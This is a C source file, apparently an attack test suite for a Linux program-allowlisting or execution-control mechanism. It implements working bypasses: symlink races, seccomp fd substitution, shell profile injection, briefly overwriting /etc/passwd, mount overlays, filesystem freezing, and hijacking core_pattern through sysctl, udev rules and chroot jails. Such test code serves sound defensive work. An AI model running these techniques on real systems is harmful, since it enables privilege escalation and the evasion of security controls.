// SPDX-License-Identifier: MIT
// trick - makes listed programs do what they were not listed for: by a name, a supervisor, a jail, a mount.
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/fs.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROOM "/var/tmp/trick"
#define PAYLOAD "echo PAYLOAD RUNS"
#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
#define OURS "/var/tmp/ours"
/* Newer than the build host's headers may be. */
#define NR_fchroot 472
#define OPEN_TREE_IN_NAMESPACE 0x2	/* OPEN_TREE_NAMESPACE */
#define MOVE_MOUNT_UNDER 0x200		/* MOVE_MOUNT_BENEATH */

static void enter_room(void)
{
	mkdir(ROOM, 0755);
	must("chdir", chdir(ROOM));
}

static void __attribute__((noreturn)) start(const char *path, const char *const argv[], const char *const envp[])
{
	execve(path, (char *const *)(uintptr_t)argv, (char *const *)(uintptr_t)envp);
	refused("execve", errno);
}

/* ---- what an interpreter is given ---- */

/* A listed script under a name that its interpreter takes for an option. */
static void option_name(char *const args[])
{
	const char *const argv[] = { "x", PAYLOAD, NULL }, *const envp[] = { "PATH=/usr/bin", NULL };
	int copy;

	enter_room();
	copy = opened(args[1], O_WRONLY | O_CREAT);
	copy_into(args[0], copy);
	close(copy);
	start(args[1], argv, envp);
}

/* A login shell finds a listed file of another language as its profile: a link or
 * a copy.  What that one calls a variable, the shell expands and runs. */
static void foreign_profile(char *const args[])
{
	static char variable[256];
	const char *const argv[] = { "-sh", "-c", "", NULL };
	const char *const envp[] = { "PATH=/usr/bin", "HOME=" ROOM, variable, NULL };

	snprintf(variable, sizeof(variable), "%s=eval " PAYLOAD ";:", args[1]);
	enter_room();
	unlink(".profile");
	if (strcmp(args[2], "link") == 0) {
		must("symlink", symlink(args[0], ".profile"));
	} else {
		int copy = opened(".profile", O_WRONLY | O_CREAT);

		copy_into(args[0], copy);
		close(copy);
	}
	start("/bin/sh", argv, envp);
}

/* The kernel's report on a process as its profile: the name there is chosen by whoever starts it. */
static void named_profile(char *const args[])
{
	static const char name[] = "`eval $A`";
	const char *const argv[] = { "-sh", "-c", "", NULL };
	const char *const envp[] = { "PATH=/usr/bin", "HOME=" ROOM, "A=" PAYLOAD " >&2", NULL };

	enter_room();
	unlink(".profile");
	must("symlink", symlink("/proc/self/status", ".profile"));
	unlink(name);
	must("symlink", symlink("/bin/sh", name));
	start(name, argv, envp);
}

/* Turns the name "script" from a listed script to the intruder's and back. */
static void __attribute__((noreturn)) swap_scripts(char *const args[])
{
	for (;;) {
		unlink("next");
		must("symlink", symlink(args[0], "next"));
		must("rename", rename("next", "script"));
		must("symlink", symlink(args[1], "next"));
		must("rename", rename("next", "script"));
	}
}

/* A script that is another one when its interpreter opens it. */
static void swapped_script(char *const args[])
{
	const char *const argv[] = { "x", NULL }, *const envp[] = { "PATH=/usr/bin", NULL };
	pid_t swapper, pid;
	int status;

	enter_room();
	unlink("script");
	must("symlink", symlink(args[0], "script"));
	swapper = (pid_t)must("fork", fork());
	if (swapper == 0)
		swap_scripts(args);
	for (int i = 0; i < 300; i++) {
		pid = (pid_t)must("fork", fork());
		if (pid == 0) {
			execve(ROOM "/script", (char *const *)(uintptr_t)argv, (char *const *)(uintptr_t)envp);
			_exit(errno == EPERM ? 99 : 98);
		}
		must("waitpid", waitpid(pid, &status, 0));
	}
	kill(swapper, SIGKILL);
	refused("execve", WEXITSTATUS(status) == 98 ? EIO : EPERM);
}

static int listen_to_opens(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { NR_OF(code), code };

	must("no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	return (int)must("seccomp", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
					    SECCOMP_FILTER_FLAG_NEW_LISTENER, &program));
}

/* Answers the opens of @pid: those of @script with @evil, all others by the kernel. */
static void supervise(pid_t pid, int listener, const char *script, int evil)
{
	char name[4096] = "";

	while (waitpid(pid, NULL, WNOHANG) != pid) {
		struct seccomp_notif call = { 0 };
		struct seccomp_notif_addfd give = { .flags = SECCOMP_ADDFD_FLAG_SEND, .srcfd = (unsigned)evil };
		struct seccomp_notif_resp go = { .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
		char mem[32];
		int fd;

		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) < 0)
			continue;
		snprintf(mem, sizeof(mem), "/proc/%d/mem", (int)pid);
		fd = opened(mem, O_RDONLY);
		must("pread", pread(fd, name, sizeof(name) - 1, (off_t)call.data.args[1]));
		close(fd);
		give.id = go.id = call.id;
		if (strcmp(name, script) == 0)
			ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &give);
		else
			ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &go);
	}
}

/* A shell starts for a listed script; who answers its system calls gives it another. */
static void supervisor(char *const args[])
{
	int *shared = must_map("mmap", mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
	const char *const argv[] = { "sh", args[0], NULL }, *const envp[] = { NULL };
	int evil = opened(args[1], O_RDONLY), listener;
	pid_t pid;

	*shared = -1;
	pid = (pid_t)must("clone", syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0));
	if (pid == 0) {
		__atomic_store_n(shared, listen_to_opens(), __ATOMIC_SEQ_CST);
		while (__atomic_load_n(shared, __ATOMIC_SEQ_CST) >= 0)
			usleep(1000);
		start("/bin/sh", argv, envp);
	}
	while (__atomic_load_n(shared, __ATOMIC_SEQ_CST) < 0)
		usleep(1000);
	listener = (int)must("dup", fcntl(*shared, F_DUPFD_CLOEXEC, 100));
	must("unshare", unshare(CLONE_FILES));
	__atomic_store_n(shared, -2, __ATOMIC_SEQ_CST);
	supervise(pid, listener, args[0], evil);
}

/* A filter lets the open of the script succeed unmade: 0 is standard input. */
static void forged_open(char *const args[])
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[2])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, O_RDONLY, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { NR_OF(code), code };
	const char *const argv[] = { "sh", args[0], NULL }, *const envp[] = { NULL };

	must("no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	must("seccomp", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program));
	start("/bin/sh", argv, envp);
}

/* A login shell reads its profile, which is a link to a file that all interpreters may read. */
static void other_name(char *const args[])
{
	static const char code[] = PAYLOAD "; exit\n";
	const char *const argv[] = { "-sh", args[0], NULL }, *const envp[] = { "HOME=" ROOM, NULL };
	size_t len;
	char *accounts = read_bytes("/etc/passwd", &len);
	int fd = opened("/etc/passwd", O_WRONLY);
	pid_t pid;

	enter_room();
	unlink(ROOM "/.profile");
	must("symlink", symlink("/etc/passwd", ROOM "/.profile"));
	must("write", pwrite(fd, code, sizeof(code) - 1, 0));
	must("write", pwrite(fd, accounts, len, sizeof(code) - 1));
	pid = (pid_t)must("fork", fork());
	if (pid == 0)
		start("/bin/sh", argv, envp);
	waitpid(pid, NULL, 0);
	must("write", pwrite(fd, accounts, len, 0));
	must("truncate", ftruncate(fd, (off_t)len));
	free(accounts);
}

/* ---- memory on its way to the disk ---- */

static void format_swap(int fd)
{
	static char head[PAGE];
	uint32_t version = 1, last = 1023;

	memcpy(head + 1024, &version, sizeof(version));
	memcpy(head + 1028, &last, sizeof(last));
	memcpy(head + PAGE - 10, "SWAPSPACE2", 10);
	must("write", pwrite(fd, head, sizeof(head), 0));
	for (off_t at = PAGE; at <= (off_t)(last * PAGE); at += (off_t)PAGE)
		must("write", pwrite(fd, head + 2048, 2048, at) < 0 ? -1 : pwrite(fd, head + 2048, 2048, at + 2048));
	must("fsync", fsync(fd));
}

/* Whatever is swapped out can be changed through the mapping, which is older. */
static void swap_file(char *const args[])
{
	int fd = opened(ROOM ".swap", O_RDWR | O_CREAT | O_TRUNC);

	format_swap(fd);
	must_map("mmap", mmap(NULL, 1024 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
	must("swapon", swapon(ROOM ".swap", 0));
	swapoff(ROOM ".swap");
	succeeded("memory is swapped to a file that is mapped");
}

/* ---- the file system as a whole ---- */

static void freeze_by(int fd)
{
	must("freeze", ioctl(fd, FIFREEZE, 0));
	ioctl(fd, FITHAW, 0);
	succeeded("the root file system stood still");
}

static void freeze(char *const args[])
{
	freeze_by(opened("/", O_RDONLY | O_DIRECTORY));
}

/* By what lies on it and has a driver or a pipe behind it. */
static void freeze_by_pipe(char *const args[])
{
	enter_room();
	unlink("pipe");
	must("mkfifo", mkfifo("pipe", 0600));
	freeze_by(opened("pipe", O_RDWR));
}

static void freeze_by_node(char *const args[])
{
	enter_room();
	unlink("null");
	must("mknod", mknod("null", S_IFCHR | 0600, makedev(1, 3)));
	freeze_by(opened("null", O_RDWR));
}

static void set_flags(char *const args[])
{
	int fd = opened(args[0], O_RDONLY), flags = 0;

	must("get", ioctl(fd, FS_IOC_GETFLAGS, &flags));
	flags ^= FS_NOATIME_FL;
	must("set", ioctl(fd, FS_IOC_SETFLAGS, &flags));
	flags ^= FS_NOATIME_FL;
	ioctl(fd, FS_IOC_SETFLAGS, &flags);
	succeeded("a listed file's attributes were changed");
}

/* ---- mounts ---- */

static void be_alone(void)
{
	must("unshare", unshare(CLONE_NEWNS));
	must("private", mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL));
	enter_room();
}

static void mount_over(char *const args[])
{
	be_alone();
	must("mount", mount(ROOM, args[0], NULL, MS_BIND, NULL));
	succeeded("something else stands in its place");
}

/* Over a directory of a copy of the mount that is attached nowhere, so in no namespace. */
static void mount_detached(char *const args[])
{
	int tree = (int)must("open_tree", open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC)), fd;

	enter_room();
	fd = (int)must("open_tree", open_tree(AT_FDCWD, ROOM, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC));
	must("move_mount", move_mount(fd, "", tree, args[0], MOVE_MOUNT_F_EMPTY_PATH));
	succeeded("something else stands in its place");
}

/* Under what is mounted there, to come to light when that goes; under the root it would be the root. */
static void slip_under(const char *place)
{
	int fs = (int)must("fsopen", fsopen("tmpfs", FSOPEN_CLOEXEC)), fd;

	must("fsconfig", fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0));
	fd = (int)must("fsmount", fsmount(fs, FSMOUNT_CLOEXEC, 0));
	must("move_mount", move_mount(fd, "", AT_FDCWD, place, MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_UNDER));
}

static void mount_under(char *const args[])
{
	be_alone();
	slip_under(args[0]);
	succeeded("something else lies below it");
}

static void other_root(char *const args[])
{
	be_alone();
	mkdir(ROOM "/old", 0755);
	must("mount", mount(ROOM, ROOM, NULL, MS_BIND, NULL));
	must("pivot_root", syscall(SYS_pivot_root, ROOM, ROOM "/old"));
	succeeded("the machine has another root");
}

/* ---- programs that may write the kernel's switches ---- */

static void finish_switch(void)
{
	char now[64] = "";
	int fd = opened(CORE_PATTERN, O_RDONLY);

	must("read", read(fd, now, sizeof(now) - 1));
	if (strncmp(now, OURS, strlen(OURS)) == 0)
		succeeded("core_pattern is ours");
	puts("core_pattern is not ours");
}

static void run(const char *const argv[])
{
	static const char *const envp[] = { NULL };
	pid_t pid = (pid_t)must("fork", fork());

	if (pid == 0)
		start(argv[0], argv, envp);
	waitpid(pid, NULL, 0);
}

static void put_text(const char *directory, const char *name, const char *text)
{
	char path[256];
	int fd;

	snprintf(path, sizeof(path), "%s/%s", directory, name);
	if (mkdir(directory, 0755) < 0 && errno != EEXIST)
		refused("mkdir", errno);
	fd = opened(path, O_WRONLY | O_CREAT | O_TRUNC);
	must("write", write(fd, text, strlen(text)));
	close(fd);
}

static void apply_settings(void)
{
	run((const char *const[]){ "/usr/lib/systemd/systemd-sysctl", NULL });
	finish_switch();
}

static const char setting[] = "kernel.core_pattern=" OURS "\n";

/* The listed program that sets them reads what root wrote into /run. */
static void run_setting(char *const args[])
{
	put_text("/run/sysctl.d", "ours.conf", setting);
	apply_settings();
}

/* In a namespace where something else is mounted on /run. */
static void covered_setting(char *const args[])
{
	be_alone();
	must("umount", umount2("/run", MNT_DETACH));
	must("mount", mount("none", "/run", "tmpfs", 0, NULL));
	run_setting(args);
}

static void slipped_setting(char *const args[])
{
	be_alone();
	slip_under("/run");
	must("umount", umount2("/run", MNT_DETACH));
	run_setting(args);
}

/* So does udev, which may write any attribute of a device. */
static void udev_rule(char *const args[])
{
	char now[64] = "";
	int fd;

	put_text("/run/udev/rules.d", "99-own.rules",
		 "KERNEL==\"null\", RUN+=\"/bin/sh -c 'echo PAYLOAD >/run/udev-marker'\"\n");
	run((const char *const[]){ "/usr/bin/udevadm", "control", "--reload", NULL });
	run((const char *const[]){ "/usr/bin/udevadm", "trigger", "--action=change", "--settle", "/dev/null", NULL });
	fd = opened("/run/udev-marker", O_RDONLY);
	must("read", read(fd, now, sizeof(now) - 1));
	if (strncmp(now, "PAYLOAD", 7) == 0)
		succeeded("udev did what our rule says");
}

/* A place with configuration of its own, for a root directory. */
static void make_jail(void)
{
	be_alone();
	mkdir(ROOM "/usr", 0755);
	mkdir(ROOM "/proc", 0755);
	mkdir(ROOM "/etc", 0755);
	must("mount", mount("/usr", ROOM "/usr", NULL, MS_BIND, NULL));
	must("mount", mount("proc", ROOM "/proc", "proc", 0, NULL));
	if (symlink("usr/lib", ROOM "/lib") < 0 && errno != EEXIST)
		refused("symlink", errno);
	if (symlink("usr/lib64", ROOM "/lib64") < 0 && errno != EEXIST)
		refused("symlink", errno);
	put_text(ROOM "/etc/sysctl.d", "ours.conf", setting);
}

static void jailed_setting(char *const args[])
{
	make_jail();
	must("chroot", chroot(ROOM));
	apply_settings();
}

static void jailed_by_fd(char *const args[])
{
	make_jail();
	must("fchroot", syscall(NR_fchroot, opened(ROOM, O_RDONLY | O_DIRECTORY), 0));
	apply_settings();
}

/* A mount namespace that consists of the jail. */
static void jailed_namespace(char *const args[])
{
	int fd;

	make_jail();
	fd = (int)must("open_tree", open_tree(AT_FDCWD, ROOM, OPEN_TREE_IN_NAMESPACE | OPEN_TREE_CLOEXEC |
							      AT_RECURSIVE));
	must("setns", setns(fd, CLONE_NEWNS));
	apply_settings();
}

static const struct attack attacks[] = {
	{ "option-name", option_name }, { "foreign-profile", foreign_profile },
	{ "named-profile", named_profile }, { "swapped-script", swapped_script },
	{ "supervisor", supervisor },
	{ "other-name", other_name }, { "swap-file", swap_file },
	{ "freeze", freeze }, { "freeze-by-pipe", freeze_by_pipe },
	{ "freeze-by-node", freeze_by_node }, { "set-flags", set_flags },
	{ "mount-over", mount_over }, { "mount-detached", mount_detached },
	{ "mount-under", mount_under }, { "covered-setting", covered_setting },
	{ "slipped-setting", slipped_setting }, { "other-root", other_root },
	{ "forged-open", forged_open }, { "run-setting", run_setting }, { "udev-rule", udev_rule },
	{ "jailed-setting", jailed_setting }, { "jailed-fchroot", jailed_by_fd },
	{ "jailed-tree", jailed_namespace },
};

int main(int argc, char *argv[])
{
	return attack_main(argc, argv, attacks, NR_OF(attacks));
}
